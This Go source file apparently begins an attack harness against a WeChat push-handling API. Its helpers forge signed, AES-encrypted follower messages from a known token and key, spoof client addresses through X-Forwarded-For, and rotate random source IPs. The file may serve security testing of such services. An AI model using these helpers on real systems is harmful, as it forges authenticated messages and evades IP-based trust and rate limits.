package main

import (
	"bytes"
	"cmp"
	"context"
	"crypto/aes"
	"crypto/cipher"
	"crypto/rand"
	"crypto/sha1"
	"encoding/base64"
	"encoding/binary"
	"encoding/hex"
	"fmt"
	"io"
	"math/big"
	"net/http"
	"net/url"
	"slices"
	"strconv"
	"strings"
	"time"
)

// target is the attacked api and what the attacker knows about it.
type target struct {
	api                              string
	token, aesKey, appID, originalID string
	cookie                           string
	patience                         time.Duration // with a server that waits for more of a body; 0: three seconds
}

// client follows no redirect and keeps no cookie.
var client = &http.Client{
	Timeout:       30 * time.Second,
	Transport:     &http.Transport{MaxIdleConnsPerHost: 256},
	CheckRedirect: func(*http.Request, []*http.Request) error { return http.ErrUseLastResponse },
}

// answer is what came back.
type answer struct {
	status int
	header http.Header
	body   string
}

// attempt is one request. from is the address that it claims to come from. It counts only if the api trusts the
// attacker as a proxy, as it does on the same machine.
type attempt struct {
	method, path, body, from string
	host                     string // empty: the target's
	base                     string // address of another server; empty: the target
	header                   map[string]string
}

func (t target) do(ctx context.Context, a attempt) (answer, error) {
	req, err := http.NewRequestWithContext(ctx, a.method, cmp.Or(a.base, t.api)+a.path, strings.NewReader(a.body))
	if err != nil {
		return answer{}, err
	}
	for name, value := range a.header {
		req.Header.Set(name, value)
	}
	if a.from != "" {
		req.Header.Set("X-Forwarded-For", a.from)
	}
	if a.host != "" {
		req.Host = a.host
	}
	res, err := client.Do(req)
	if err != nil {
		return answer{}, fmt.Errorf("no answer: %w", err)
	}
	defer func() { _ = res.Body.Close() }()
	body, err := io.ReadAll(io.LimitReader(res.Body, 1<<20))
	return answer{res.StatusCode, res.Header, string(body)}, err
}

// anywhere is an address that no other attack uses.
func anywhere() string {
	n, err := rand.Int(rand.Reader, big.NewInt(1<<24))
	if err != nil {
		return "198.51.100.1"
	}
	b := binary.BigEndian.AppendUint32(nil, uint32(n.Int64()))
	return fmt.Sprintf("100.%d.%d.%d", 130+b[1]%100, b[2], b[3])
}

func sign(parts ...string) string {
	slices.Sort(parts)
	sum := sha1.Sum([]byte(strings.Join(parts, "")))
	return hex.EncodeToString(sum[:])
}

// query returns the signed query of a push at a given time.
func (t target) query(at time.Time) url.Values {
	timestamp, nonce := strconv.FormatInt(at.Unix(), 10), rand.Text()
	return url.Values{"timestamp": {timestamp}, "nonce": {nonce}, "signature": {sign(t.token, timestamp, nonce)}}
}

// push is a text message from a follower.
func (t target) push(at time.Time) string {
	return fmt.Sprintf(
		"<xml><ToUserName>%s</ToUserName><FromUserName>oAttackNobody</FromUserName><CreateTime>%d</CreateTime>"+
			"<MsgType>text</MsgType><Content>account</Content><MsgId>%d</MsgId></xml>", t.originalID, at.Unix(), at.UnixNano())
}

// seal encrypts a push as WeChat does.
func (t target) seal(message string) ([]byte, error) {
	key, err := base64.StdEncoding.DecodeString(t.aesKey + "=")
	if err != nil {
		return nil, fmt.Errorf("the AES key: %w", err)
	}
	plain := append([]byte(rand.Text()[:16]), binary.BigEndian.AppendUint32(nil, uint32(len(message)))...)
	plain = append(append(plain, message...), t.appID...)
	pad := 32 - len(plain)%32
	plain = append(plain, bytes.Repeat([]byte{byte(pad)}, pad)...)
	block, err := aes.NewCipher(key)
	if err != nil {
		return nil, fmt.Errorf("the AES key: %w", err)
	}
	cipher.NewCBCEncrypter(block, key[:aes.BlockSize]).CryptBlocks(plain, plain)
	return plain, nil
}

// envelope is the request that carries a ciphertext, signed with the token.
func (t target) envelope(at time.Time, sealed []byte) (path, body string) {
	q, text := t.query(at), base64.StdEncoding.EncodeToString(sealed)
	q.Set("encrypt_type", "aes")
	q.Set("msg_signature", sign(t.token, q.Get("timestamp"), q.Get("nonce"), text))
	return "/wechat?" + q.Encode(), "<xml><ToUserName>" + t.originalID + "</ToUserName><Encrypt>" + text +
		"</Encrypt></xml>"
}
